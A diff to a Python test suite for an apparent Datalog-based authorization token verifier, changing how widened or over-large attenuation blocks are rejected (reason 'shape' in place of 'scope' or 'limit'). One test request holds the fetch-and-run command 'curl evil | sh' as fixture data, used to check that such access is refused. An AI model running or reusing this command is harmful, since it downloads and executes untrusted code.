@@ -273,7 +273,7 @@ def test_revoked_block_revocation_id_is_rejected(token: str) -> None:
 # Attenuation
 
 
-def test_widened_attenuation_facts_are_ignored(token: str) -> None:
+def test_widened_attenuation_facts_are_refused(token: str) -> None:
     far = _date(EXP + 10 * 365 * 86400)
     widened = _append(
         token,
@@ -284,15 +284,12 @@ def test_widened_attenuation_facts_are_ignored(token: str) -> None:
         resource("/bin/bash") <- warrant($w);
         """,
     )
-    # The claims still come from the authority block only.
-    assert _verify(widened) == CLAIMS
-    # Neither the widened resource nor the widened window is honoured.
+    # Facts and rules are not a shape proctor's attenuation writes: refused outright,
+    # for any request and at any time.
     sh = WarrantRequest("exec", "/bin/sh", args_digest(["sh", "-c", "curl evil | sh"]), "dev", "")
-    assert _reason(widened, request=sh) == "scope"
-    bash = WarrantRequest("exec", "/bin/bash", ARGS, "prod", EXE)
-    assert _reason(widened, request=bash) == "scope"
-    assert _reason(widened, now=EXP + 1) == "expired"
-    assert _reason(widened, now=NB - 1) == "not-yet-valid"
+    assert _reason(widened, request=sh) == "shape"
+    assert _reason(widened) == "shape"
+    assert _reason(widened, now=EXP + 1) == "shape"
 
 
 def test_appended_check_can_only_narrow(token: str) -> None:
@@ -302,9 +299,9 @@ def test_appended_check_can_only_narrow(token: str) -> None:
     assert _verify(narrowed) == CLAIMS
     elsewhere = attenuate_warrant(token, root_public_key=ROOT.public_key, zone="dev")
     assert _reason(elsewhere) == "scope"  # a narrowing the request does not meet
-    # A permissive-looking check in a later block widens nothing.
-    assert _reason(_append(elsewhere, "check if true;")) == "scope"
-    assert _reason(_append(elsewhere, "inspection(true);")) == "scope"
+    # A permissive-looking block is not an accepted shape.
+    assert _reason(_append(elsewhere, "check if true;")) == "shape"
+    assert _reason(_append(elsewhere, "inspection(true);")) == "shape"
 
 
 def test_attenuated_expiry_earlier_than_authority_is_enforced(token: str) -> None:
@@ -340,7 +337,7 @@ def test_scope_attenuation_passes_inspection_without_a_request(token: str) -> No
 
 
 def test_foreign_time_check_of_the_wrong_type_fails_closed(token: str) -> None:
-    assert _reason(_append(token, "check if time($t), $t < 5;")) == "scope"
+    assert _reason(_append(token, "check if time($t), $t < 5;")) == "shape"
 
 
 def test_attenuation_requires_a_genuine_token_and_a_narrowing(token: str) -> None:
@@ -373,7 +370,7 @@ def test_datalog_limit_is_enforced(token: str) -> None:
     # 40 x 40 = 1600 generated facts, above the 1000-fact limit.
     exploding = _append(token, facts + " pair($x, $y) <- n($x), n($y);")
     assert len(exploding) < 16 * 1024
-    assert _reason(exploding) == "limit"
+    assert _reason(exploding) == "shape"  # refused before any evaluation
 
 
 def test_recursive_rule_hits_the_iteration_or_fact_limit(token: str) -> None:
@@ -382,7 +379,7 @@ def test_recursive_rule_hits_the_iteration_or_fact_limit(token: str) -> None:
         "step(0, 1); step($a, $c) <- step($a, $b), step($b2, $c), $b == $b2;"
         + " ".join(f"step({i}, {i + 1});" for i in range(1, 60)),
     )
-    assert _reason(recursive) == "limit"
+    assert _reason(recursive) == "shape"  # refused before any evaluation
 
 
 # Inspection
